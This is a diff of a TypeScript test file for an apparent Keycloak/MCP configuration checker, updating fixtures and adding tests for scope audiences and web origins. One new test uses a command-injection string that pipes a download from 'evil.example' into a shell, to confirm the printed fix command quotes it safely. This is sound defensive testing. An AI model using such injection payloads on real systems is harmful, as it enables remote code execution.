@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
 import { once } from 'node:events';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -36,7 +37,8 @@ async function startServer(t: TestContext, said: (url: string) => Said): Promise
   }).listen(0, '127.0.0.1');
   await once(server, 'listening');
   t.after(() => server.close());
-  return createMcpEvidence(`http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`, undefined);
+  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`;
+  return createMcpEvidence({ url, credentials: undefined, serverUrl: undefined, confirm: undefined });
 }
 
 const good = (base: string): Said => ({
@@ -115,8 +117,9 @@ function seeWell(): McpAdminView {
     program: { ...MCP_CLIENT },
     scopes: [{ name: 'mcp:tools', protocolMappers: toScopeMappers(GOAL).map((one) => ({ ...one })) }],
     offered: ['mcp:tools'],
+    byDefault: [],
     trustedHosts: { config: { 'trusted-hosts': ['127.0.0.1'] } },
-    webOrigins: ['http://localhost:6274'],
+    webOrigins: { config: { 'web-origins': ['http://localhost:6274'] } },
     documents: { isOffered: false, profiles: [], policies: [] },
   };
   return { state, givesOffline: true };
@@ -124,10 +127,10 @@ function seeWell(): McpAdminView {
 
 const GOAL = {
   ...{ realm: 'main', url: 'https://tools.example.com/mcp', scopes: ['mcp:tools'] },
-  ...{ registration: true, documents: [] },
+  ...{ registration: true, programs: [], documents: [] },
 };
 
-const resultsOf = (view: McpAdminView | null) => {
+const resultsOf = (view: McpAdminView) => {
   const mcp = { url: GOAL.url, scopes: async () => GOAL.scopes, admin: async () => view };
   const checks = KEYCLOAK_CHECKS.map((one) => ({ ...one, needs: [] }));
   return runChecks(checks, { mcp, close: async () => {} } as unknown as DoctorContext);
@@ -144,10 +147,39 @@ const troublesAt = async (
     .map(({ id, status, seen, cause }) => `${status} ${id}: ${seen} (${cause})`);
 };
 
-test('an admin sees nothing where all is well, and is needed to see anything', async () => {
+test('an admin sees nothing where all is well', async () => {
   assert.deepEqual(await troublesAt(() => ({})), []);
-  const unseen = await resultsOf(null);
-  assert.deepEqual([...new Set(unseen.map(({ status }) => status))], ['skipped']);
+});
+
+test('a scope that a server chose is quoted in the command that is printed to be copied', async () => {
+  const evil = 'x;curl$IFS"evil.example"|sh\'';
+  const mcp = { url: GOAL.url, scopes: async () => [evil], admin: async () => seeWell() };
+  const checks = KEYCLOAK_CHECKS.filter(({ id }) => id === 'mcp.audience').map((one) => ({
+    ...one,
+    needs: [],
+  }));
+  const [found] = await runChecks(checks, { mcp, close: async () => {} } as unknown as DoctorContext);
+  const words = spawnSync('sh', [
+    '-c',
+    `set -- ${found?.fix.replace('keycloak-guard', '')}; printf '%s\\n' "$@"`,
+  ]);
+  assert.equal(words.stdout.toString(), `setup\nmcp\n${GOAL.url}\n--scope\n${evil}\n`, found?.fix);
+});
+
+test('a scope that is for a second server is a fault', async () => {
+  const other = { ...GOAL, url: 'https://other.example/mcp' };
+  const scopes = [
+    {
+      name: 'mcp:tools',
+      protocolMappers: [GOAL, other].flatMap((goal) => toScopeMappers(goal).map((one) => ({ ...one }))),
+    },
+  ];
+  const [found, ...more] = await troublesAt(() => ({ scopes }));
+  assert.match(
+    found ?? '',
+    /^fail mcp\.audience: the scope mcp:tools is for https:\/\/other\.example\/mcp, too/,
+  );
+  assert.deepEqual(more, []);
 });
 
 const mappersBut = (name: string) => (state: McpState) => ({
@@ -219,12 +251,15 @@ for (const [what, change, trouble, more] of [
 
 test('an admin is told that pages may not register, which is no trouble of other programs', async () => {
   const { state, ...view } = seeWell();
-  const seenAt = async (webOrigins: string[]) =>
-    (await resultsOf({ ...view, state: { ...state, webOrigins } })).find(
-      ({ id }) => id === 'mcp.registration',
-    );
+  const seenAt = async (origins: string[]) =>
+    (
+      await resultsOf({
+        ...view,
+        state: { ...state, webOrigins: { config: { 'web-origins': origins } } },
+      })
+    ).find(({ id }) => id === 'mcp.registration');
   assert.match((await seenAt([]))?.seen ?? '', /pages get "Invalid origin" \(Clients → Client registration/);
-  assert.match((await seenAt(['https://a.example']))?.seen ?? '', /pages of https:\/\/a\.example$/);
+  assert.match((await seenAt(['https://a.example']))?.seen ?? '', /pages of https:\/\/a\.example;/);
 });
 
 test('documents of clients are no trouble where a policy takes them', async () => {
